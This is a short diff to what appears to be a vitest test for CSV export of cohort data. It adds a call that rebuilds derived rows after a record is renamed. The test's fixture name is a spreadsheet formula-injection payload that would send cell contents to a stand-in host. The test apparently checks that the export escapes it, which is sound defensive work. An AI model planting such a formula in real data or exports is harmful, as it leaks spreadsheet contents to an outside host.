@@ -4,6 +4,7 @@ import { describe, expect, it } from 'vitest'
 import { TEST_DIALECTS } from '../test/create-test-db.ts'
 import { insertCohortScenario } from '../test/insert-fixtures.ts'
 import { useTestApp } from '../test/use-test-app.ts'
+import { storeAllActivity } from '../cohorts/store-cohort-activity.ts'
 
 const HOSTILE = '=HYPERLINK("http://x?leak="&A1,"click")'
 /** The name as a CSV field: apostrophe first, then quoted (it holds quotes and a comma). */
@@ -21,6 +22,9 @@ for (const dialect of TEST_DIALECTS) {
         .set({ name: HOSTILE })
         .where('code', '=', 'LONG_AN.THANH_HOA')
         .execute()
+      // Renamed outside the write path: the rows derived from the name are rebuilt as a restore
+      // rebuilds them.
+      await storeAllActivity(db)
     })
 
     it.each([
